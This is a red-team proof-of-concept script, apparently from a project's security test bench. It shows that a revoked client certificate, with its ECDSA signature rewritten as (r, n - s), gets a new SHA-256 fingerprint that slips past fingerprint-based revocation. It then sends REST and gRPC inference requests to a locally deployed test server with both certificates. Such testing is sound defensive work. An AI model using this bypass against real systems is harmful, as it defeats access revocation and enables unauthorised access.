"""A revoked client certificate (`client_certificates.revoked_fingerprints`) used again by its holder.

The fingerprint is SHA-256 of the certificate's DER. An ECDSA signature (r, s) is equally valid as
(r, n - s); re-encoding the certificate with the other s changes its DER (so its fingerprint) without
the CA's key, and OpenSSL still verifies the chain. Run: .venv/bin/python bench/redteam_scale/revoked_fingerprint_malleability.py
"""

from __future__ import annotations

import hashlib
import ssl
import sys
import tempfile
from pathlib import Path

import httpx
from asn1crypto import core
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature

sys.path.insert(0, str(Path(__file__).resolve().parent))
from harness import deploy

from bastion.demo import infer_request

N_P256 = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def malleate(pem: bytes) -> bytes:
    """The same certificate, signature (r, s) -> (r, n - s): a different DER, the same verification."""
    cert = x509.load_pem_x509_certificate(pem)
    r, s = decode_dss_signature(cert.signature)
    outer = core.Sequence.load(
        cert.public_bytes(
            __import__("cryptography.hazmat.primitives.serialization", fromlist=["Encoding"]).Encoding.DER
        )
    )
    tbs, alg = outer[0], outer[1]
    sig = core.OctetBitString(encode_dss_signature(r, N_P256 - s))
    der = core.Sequence(value=None, contents=tbs.dump() + alg.dump() + sig.dump()).dump()
    x509.load_der_x509_certificate(der)  # still parses
    import base64

    b64 = base64.encodebytes(der).decode().replace("\n", "")
    lines = [b64[i : i + 64] for i in range(0, len(b64), 64)]
    return ("-----BEGIN CERTIFICATE-----\n" + "\n".join(lines) + "\n-----END CERTIFICATE-----\n").encode()


def main() -> None:
    root = Path(tempfile.mkdtemp(prefix="rt-malleate-"))
    d = deploy(root, grpc=True, client_auth="require", min_version="1.2")
    try:
        revoked = d.certs["revoked"]
        twin = root / "revoked-twin.pem"
        twin.write_bytes(malleate(revoked.cert.read_bytes()))
        fp = hashlib.sha256(
            x509.load_pem_x509_certificate(twin.read_bytes()).public_bytes(
                __import__("cryptography.hazmat.primitives.serialization", fromlist=["Encoding"]).Encoding.DER
            )
        ).hexdigest()
        print("revoked fingerprint (in policy):", revoked.fingerprint)
        print("twin fingerprint               :", fp)
        body = infer_request(d.rows)
        for label, cert in (("revoked original", revoked.cert), ("malleated twin  ", twin)):
            ctx = ssl.create_default_context(cafile=d.ca.pem)
            ctx.load_cert_chain(cert, revoked.key)
            with httpx.Client(verify=ctx, timeout=10) as http:
                r = http.post(f"{d.url}/v2/models/breast-cancer/infer", json=body)
            print(f"REST {label}: {r.status_code} {r.text[:150]}")
        # gRPC (client_auth = require maps certificates on gRPC too)
        import tritonclient.grpc as triton

        for label, cert in (("revoked original", revoked.cert), ("malleated twin  ", twin)):
            client = triton.InferenceServerClient(
                f"127.0.0.1:{d.grpc_port}",
                ssl=True,
                root_certificates=str(d.ca.pem),
                private_key=str(revoked.key),
                certificate_chain=str(cert),
            )
            inp = triton.InferInput("features", list(d.rows.shape), "FP32")
            inp.set_data_from_numpy(d.rows)
            try:
                res = client.infer("breast-cancer", [inp])
                print(f"gRPC {label}: answered {res.as_numpy('label')}")
            except Exception as e:
                print(f"gRPC {label}: refused {str(e)[:120]}")
            client.close()
    finally:
        d.server.stop()


if __name__ == "__main__":
    main()
